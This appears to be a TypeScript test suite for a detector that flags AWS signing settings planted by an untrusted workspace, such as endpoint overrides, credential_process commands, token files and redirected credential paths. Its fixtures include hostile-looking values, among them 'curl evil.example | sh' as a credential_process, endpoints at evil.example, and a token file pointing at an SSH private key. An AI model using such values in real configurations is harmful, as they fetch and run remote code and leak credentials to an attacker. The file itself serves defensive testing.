import assert from "node:assert/strict";
import type { Launch, Origin } from "../../../../src/core/index.ts";
import { resolveProject } from "../../../../src/core/project/resolve.ts";
import { signingOf } from "../../../../src/core/signing/signingContext.ts";
import { broughtByWorkspace, chosenByWorkspace } from "../../../../src/core/signing/workspaceInfluence.ts";
import { visible } from "../../../../src/core/text/plainText.ts";
import { configPath, credentialsPath, cwd, situation } from "../../situation.ts";

const keys = "aws_access_key_id = AKIAFAKE000000000001\naws_secret_access_key = not-a-real-secret\n";
const own = { [credentialsPath]: `[default]\n${keys}` };

interface Case {
	title: string;
	files: Record<string, string>;
	environment?: Record<string, string>;
	profile?: string;
	/** What else lies in the project's folder. */
	there?: string[];
	expected: string[];
}

const cases: Case[] = [
	{
		title: "nothing of the person's own",
		files: {
			...own,
			[configPath]:
				"[default]\nendpoint_url = http://mine\n[profile p]\ncredential_process = mine\nendpoint_url = http://mine",
		},
		profile: "p",
		environment: { AWS_ENDPOINT_URL: "http://mine", AWS_WEB_IDENTITY_TOKEN_FILE: "/home/tester/t" },
		expected: [],
	},
	{
		title: "keys and profile names in .env are what .env is for",
		files: { ...own, ".env": "REMOTION_AWS_PROFILE=default\nAWS_SECRET_ACCESS_KEY=x\nAWS_REGION=eu-west-1" },
		expected: [],
	},
	{
		title: "an endpoint in .env",
		files: { ...own, ".env": "AWS_ENDPOINT_URL=http://evil.example" },
		expected: ["endpoint AWS_ENDPOINT_URL http://evil.example .env"],
	},
	{
		title: "an endpoint of one service, of the container, of the instance",
		files: {
			...own,
			".env":
				"AWS_ENDPOINT_URL_STS=http://a\nAWS_CONTAINER_CREDENTIALS_FULL_URI=https://b\nAWS_EC2_METADATA_SERVICE_ENDPOINT=http://c",
		},
		expected: [
			"endpoint AWS_ENDPOINT_URL_STS http://a .env",
			"endpoint AWS_CONTAINER_CREDENTIALS_FULL_URI https://b .env",
			"endpoint AWS_EC2_METADATA_SERVICE_ENDPOINT http://c .env",
		],
	},
	{
		title: "not an endpoint that the shell outranks",
		files: { ...own, ".env": "AWS_ENDPOINT_URL=http://evil.example" },
		environment: { AWS_ENDPOINT_URL: "http://mine" },
		expected: [],
	},
	{
		title: "AWS files of .env, their credential_process and their endpoints",
		files: {
			...own,
			".env": "AWS_CONFIG_FILE=aws/config\nREMOTION_AWS_PROFILE=p",
			"aws/config":
				"[profile p]\ncredential_process = curl evil.example | sh\n[profile unused]\ncredential_process = other\n[services s]\nsts =\n  endpoint_url = http://evil.example",
		},
		expected: [
			"aws-file AWS_CONFIG_FILE /work/project/aws/config .env",
			"process credential_process curl evil.example | sh config",
			"endpoint sts.endpoint_url http://evil.example config",
		],
	},
	{
		title: "AWS files that lie in the workspace, whoever named them",
		files: { "aws/credentials": `[default]\n${keys}` },
		environment: { AWS_SHARED_CREDENTIALS_FILE: `${cwd}/aws/credentials` },
		expected: ["aws-file AWS_SHARED_CREDENTIALS_FILE /work/project/aws/credentials credentials"],
	},
	{
		title: "AWS files outside that .env names, though they are not there yet",
		files: { ...own, ".env": "AWS_SHARED_CREDENTIALS_FILE=/tmp/x\nAWS_CONFIG_FILE=/tmp/y" },
		profile: "default",
		expected: ["aws-file AWS_SHARED_CREDENTIALS_FILE /tmp/x .env", "aws-file AWS_CONFIG_FILE /tmp/y .env"],
	},
	{
		title: "a home of .env",
		files: { ".env": "HOME=fake", "fake/.aws/config": "[default]\ncredential_process = evil" },
		profile: "default",
		expected: [
			"aws-file HOME /work/project/fake/.aws/credentials .env",
			"aws-file HOME /work/project/fake/.aws/config .env",
			"process credential_process evil config",
		],
	},
	{
		title: "the credential_process of a source profile",
		files: {
			".env": "AWS_CONFIG_FILE=c",
			c: "[profile r]\nrole_arn = a\nsource_profile = s\n[profile s]\ncredential_process = evil",
		},
		profile: "r",
		expected: ["aws-file AWS_CONFIG_FILE /work/project/c .env", "process credential_process evil c"],
	},
	{
		title: "a web identity token file of .env, and one inside the workspace",
		files: { ...own, ".env": "AWS_WEB_IDENTITY_TOKEN_FILE=/home/tester/.ssh/id_rsa" },
		expected: ["token-file AWS_WEB_IDENTITY_TOKEN_FILE /home/tester/.ssh/id_rsa .env"],
	},
	{
		title: "the person's own profile that reads or runs a file of the workspace",
		files: {
			[configPath]:
				"[profile p]\nrole_arn = a\nweb_identity_token_file = ./token\n[profile q]\ncredential_process = ./creds.sh --json\n[profile r]\ncredential_process = node ./creds.js\n[profile s]\ncredential_process = aws-vault exec team/x",
		},
		profile: "p",
		expected: ["token-file web_identity_token_file ./token config"],
	},
	{
		title: "a program of the workspace in the person's own profile",
		files: { [configPath]: "[profile q]\ncredential_process = ./creds.sh --json" },
		profile: "q",
		expected: ["process credential_process ./creds.sh --json config"],
	},
	{
		title: "a script of the workspace as an argument there",
		files: { [configPath]: '[profile r]\ncredential_process = node "./my creds.js"' },
		profile: "r",
		expected: ['process credential_process node "./my creds.js" config'],
	},
	{
		title: "no bare name and no word that only looks like a path",
		files: { [configPath]: "[profile s]\ncredential_process = aws-vault exec team/x" },
		profile: "s",
		expected: [],
	},
	{
		title: "what a file of the workspace says twice over, once",
		files: {
			".env": "AWS_CONFIG_FILE=c\nREMOTION_AWS_PROFILE=p",
			c: "[profile p]\ncredential_process = ./x.sh\nweb_identity_token_file = ./t\nendpoint_url = http://evil.example\nendpoint_url_old = http://a\nmy_endpoint_url = http://b",
		},
		expected: [
			"aws-file AWS_CONFIG_FILE /work/project/c .env",
			"process credential_process ./x.sh c",
			"token-file web_identity_token_file ./t c",
			"endpoint endpoint_url http://evil.example c",
		],
	},
	{
		title: "two programs of the workspace, each by itself",
		files: {
			[configPath]:
				"[profile p]\nrole_arn = a\nsource_profile = s\ncredential_process = tools/one --json\n[profile s]\ncredential_process = sh ../project/two.sh",
		},
		profile: "p",
		expected: [
			"process credential_process tools/one --json config",
			"process credential_process sh ../project/two.sh config",
		],
	},
	{
		title: "no AWS file of the workspace that is not there or says nothing",
		files: { ...own, "aws/config": "" },
		environment: { AWS_SHARED_CREDENTIALS_FILE: `${cwd}/aws/credentials`, AWS_CONFIG_FILE: `${cwd}/aws/config` },
		profile: "default",
		expected: [],
	},
	{
		title: "a home of .env, of the file that the shell does not name",
		files: { ".env": "HOME=fake", "fake/.aws/credentials": `[default]\n${keys}` },
		environment: { AWS_CONFIG_FILE: configPath },
		profile: "default",
		expected: ["aws-file HOME /work/project/fake/.aws/credentials .env"],
	},
	{
		title: "the file of SSO sessions, whose ~ the SDK takes literally",
		files: {
			...own,
			[`${cwd}/~/c`]: "[sso-session s]\nsso_region = us-east-1",
			"/home/tester/c": "[profile p]\nregion = us-east-1",
		},
		environment: { AWS_CONFIG_FILE: "~/c" },
		profile: "default",
		expected: ["aws-file AWS_CONFIG_FILE /work/project/~/c c"],
	},
	{
		title: "a token file of the workspace that the shell names; none where it names nothing",
		files: own,
		environment: { AWS_WEB_IDENTITY_TOKEN_FILE: "token", AWS_LOGIN_CACHE_DIRECTORY: "" },
		profile: "default",
		expected: ["token-file AWS_WEB_IDENTITY_TOKEN_FILE token shell"],
	},
	{
		title: "a script between quotes of the other kind",
		files: { [configPath]: "[profile r]\ncredential_process = node './my creds.js'" },
		profile: "r",
		expected: ["process credential_process node './my creds.js' config"],
	},
	...[
		"node get.js",
		"node get",
		"python get.py --x",
		"sh -c 'get.sh; true'",
		"aws-vault --config=get.cfg exec",
		"get",
	].map(
		(command): Case => ({
			title: `the person's own command that finds a file of the project by a bare name: ${command}`,
			files: { [configPath]: `[profile r]\ncredential_process = ${command}` },
			profile: "r",
			there: ["get.js", "get.py", "get.sh", "get.cfg"],
			expected: [`process credential_process ${command} config`],
		}),
	),
	...["python -m creds", "node scripts/creds", "node 'my creds'"].map(
		(command): Case => ({
			title: `the person's own command that finds a module of the project: ${command}`,
			files: { [configPath]: `[profile r]\ncredential_process = ${command}` },
			profile: "r",
			there: ["creds.py", "scripts/creds.mjs", "my creds.js"],
			expected: [`process credential_process ${command} config`],
		}),
	),
	...["npx creds", "/usr/bin/make creds", "npm run creds", "uv run creds"].map(
		(command): Case => ({
			title: `the person's own command that runs what the project says: ${command}`,
			files: { [configPath]: `[profile r]\ncredential_process = ${command}` },
			profile: "r",
			expected: [`process credential_process ${command} config`],
		}),
	),
	...["op item get aws", "aws-vault exec work --json", "/opt/creds get", "granted credential-process --profile a"].map(
		(command): Case => ({
			title: `not the person's own command that has nothing to do with the project: ${command}`,
			files: { [configPath]: `[profile r]\ncredential_process = ${command}` },
			profile: "r",
			there: ["README.md", "src"],
			expected: [],
		}),
	),
];

const isOfWorkspace = (path: string) => path === cwd || path.startsWith(`${cwd}/`);

describe("what a workspace brings to the signing", () => {
	for (const { title, files, environment = {}, profile, there = [], expected } of cases) {
		it(title, () => {
			const situated = resolveProject(situation({ files, environment }));
			const signing = signingOf(situated, profile);
			assert.ok(signing);
			const disk = Object.fromEntries(there.map((name) => [`${cwd}/${name}`, true]));
			const found = broughtByWorkspace(situated, signing, { isOfWorkspace, isThere: (path) => path in disk });
			const where = ({ path, layer }: Origin) => (layer === "file" ? path?.split("/").at(-1) : layer);
			assert.deepEqual(
				found.map(({ kind, name, value, origin }) => `${kind} ${name} ${value} ${where(origin)}`),
				expected,
			);
		});
	}

	it("is found on Windows by its drive", () => {
		const config =
			"[profile r]\ncredential_process = node D:\\work\\creds.js\n[profile s]\ncredential_process = node :/x";
		const readFile = (path: string) => (path === "C:\\Users\\me\\.aws\\config" ? config : undefined);
		const input = { ...situation({ platform: "win32", cwd: "D:\\work", home: "C:\\Users\\me" }), readFile };
		for (const [profile, count] of [
			["r", 1],
			["s", 0],
		] as const) {
			const situated = resolveProject(input);
			const signing = signingOf(situated, profile);
			assert.ok(signing);
			const found = broughtByWorkspace(situated, signing, {
				isOfWorkspace: (path) => path.startsWith("D:\\work\\"),
				isThere: () => false,
			});
			assert.equal(found.length, count, profile);
		}
	});

	it("is the AWS file that keys would be written into, if the workspace has chosen it", () => {
		const chosen = (files: Record<string, string>, environment: Record<string, string> = {}) => {
			const situated = resolveProject(situation({ files, environment }));
			const found = chosenByWorkspace(situated, situated.aws.paths.credentials, { isOfWorkspace });
			return found && [found.kind, found.name, found.value, found.origin.path];
		};
		assert.equal(chosen({ ...own, ".env": "AWS_PROFILE=a" }), undefined);
		assert.equal(chosen(own, { AWS_SHARED_CREDENTIALS_FILE: "/home/tester/other" }), undefined);
		const env = `${cwd}/.env`;
		for (const [variable, value, path] of [
			["AWS_SHARED_CREDENTIALS_FILE", "/home/tester/.bashrc", "/home/tester/.bashrc"],
			["AWS_SHARED_CREDENTIALS_FILE", "public/keys", `${cwd}/public/keys`],
			["AWS_SHARED_CREDENTIALS_FILE", "~/.netrc", "/home/tester/.netrc"],
			["HOME", "/tmp/theirs", "/tmp/theirs/.aws/credentials"],
			["USERPROFILE", "/tmp/theirs", "/tmp/theirs/.aws/credentials"],
		])
			assert.deepEqual(chosen({ ".env": `${variable}=${value}` }), ["written-file", variable, path, env], value);
		const inside = `${cwd}/aws`;
		assert.deepEqual(chosen(own, { AWS_SHARED_CREDENTIALS_FILE: inside }), [
			"written-file",
			"AWS_SHARED_CREDENTIALS_FILE",
			inside,
			inside,
		]);
	});

	it("is shown without what hides or turns the text", () => {
		assert.equal(visible("a\nb\u202Ec\u200Bd\u0007é/–"), "a\\u{a}b\\u{202e}c\\u{200b}d\\u{7}é/–");
	});
});

describe("what a project's scripts bring", () => {
	const launch = (layers: Launch["layers"]): Launch => ({
		id: "script:render",
		label: "npm run render",
		kind: "script",
		runtime: "node",
		cwd,
		place: "here",
		callsLambda: "yes",
		layers,
	});
	const table: [what: string, layers: Launch["layers"], expected: string[]][] = [
		[
			"a .env file far from the workspace",
			[{ kind: "files", by: "node --env-file", paths: ["/elsewhere/.env"], dialect: "node-22" }],
			["endpoint AWS_ENDPOINT_URL"],
		],
		[
			"an address written in the script",
			[{ kind: "variables", by: "package.json", values: { AWS_ENDPOINT_URL: "http://evil.example" } }],
			["endpoint AWS_ENDPOINT_URL"],
		],
		[
			"an AWS file that the script names",
			[{ kind: "variables", by: "package.json", values: { AWS_CONFIG_FILE: "/elsewhere/config" } }],
			["aws-file AWS_CONFIG_FILE"],
		],
		["nothing, where the shell says it", [{ kind: "shell" }], []],
		[
			"nothing, where the shell wins over the file",
			[{ kind: "shell" }, { kind: "files", by: "node --env-file", paths: ["/elsewhere/.env"], dialect: "node-22" }],
			[],
		],
	];
	for (const [what, layers, expected] of table)
		it(what, () => {
			const project = resolveProject(
				situation({
					environment: { AWS_ENDPOINT_URL: "http://mine" },
					files: { ...own, "/elsewhere/.env": "AWS_ENDPOINT_URL=http://evil.example", "/elsewhere/config": "" },
					launch: launch([...layers, { kind: "variables", by: "x", values: { AWS_PROFILE: "default" } }]),
				}),
			);
			const signing = signingOf(project);
			assert.ok(signing);
			const found = broughtByWorkspace(project, signing, { isOfWorkspace, isThere: () => false });
			assert.deepEqual(
				found.map(({ kind, name }) => `${kind} ${name}`),
				expected,
			);
		});
});
